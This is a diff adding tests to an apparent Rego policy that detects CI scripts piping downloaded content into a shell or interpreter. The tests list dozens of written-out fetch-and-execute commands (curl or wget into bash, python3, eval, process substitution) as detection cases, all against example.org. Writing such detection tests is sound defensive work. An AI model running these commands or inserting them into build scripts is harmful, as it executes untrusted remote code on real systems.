@@ -43,3 +43,67 @@ test_passes_for_other_scripts if {
 test_says_nothing_where_the_script_cannot_be_told if {
 	count(piped_downloads.deny) == 0 with input as sample.uncertain("process.beforeScript", "closure")
 }
+
+is_found(script) if found({"process.beforeScript": script}) != set()
+
+test_fails_however_the_download_is_piped if {
+	every script in [
+		"curl -s https://example.org/a | /bin/bash",
+		"curl -s https://example.org/a |& zsh -s -- --yes",
+		"curl \"https://example.org/a?b=1&c=2\" | dash",
+		"curl 'https://example.org/a;b' 2>&1 | ksh",
+		"curl https://example.org/a \\\n  | bash",
+		"curl https://example.org/a | gunzip | ash",
+		"curl https://example.org/a | MODE=fast sh -",
+		"curl https://example.org/a | /usr/bin/env bash",
+		"curl https://example.org/a | sudo -u root bash",
+		"bash -c \"curl https://example.org/a\" | sh",
+	] {
+		is_found(script)
+	}
+}
+
+test_fails_when_an_interpreter_gets_its_program_from_the_download if {
+	every script in [
+		"curl https://example.org/a | python3",
+		"curl https://example.org/a | python3 - --version 1",
+		"wget -qO- https://example.org/a | perl; true",
+		"wget -qO- https://example.org/a | ruby\ntrue",
+		"wget -qO- https://example.org/a | node -",
+	] {
+		is_found(script)
+	}
+}
+
+test_fails_when_a_shell_is_handed_the_download if {
+	every script in [
+		"bash <(curl -s https://example.org/a)",
+		"bash -e < <(curl -s https://example.org/a)",
+		"python3 <(wget -qO- https://example.org/a)",
+		"source <(curl https://example.org/a)",
+		". <(curl https://example.org/a)",
+		"sh -c \"$(curl -fsSL https://example.org/a)\"",
+		"bash -e -c \"`curl https://example.org/a`\"",
+		"bash <<< $(wget -qO- https://example.org/a)",
+		"python3 -c \"$(curl https://example.org/a)\"",
+		"perl -e '$(curl https://example.org/a)'",
+		"eval \"$(curl https://example.org/a)\"",
+	] {
+		is_found(script)
+	}
+}
+
+test_passes_when_the_download_is_data if {
+	every script in [
+		"curl https://example.org/a || sh fallback.sh",
+		"curl https://example.org/a | jq . > a.json; sh b",
+		"curl https://example.org/a | python3 -m json.tool",
+		"curl https://example.org/a | perl -ne 'print'",
+		"curl -o \"a\" https://example.org/a; echo \"true\" | sh",
+		"curl https://example.org/a\necho true | sh",
+		"bash script.sh <(curl https://example.org/a)",
+		"A=\"$(curl https://example.org/a)\" sh b",
+	] {
+		not is_found(script)
+	}
+}
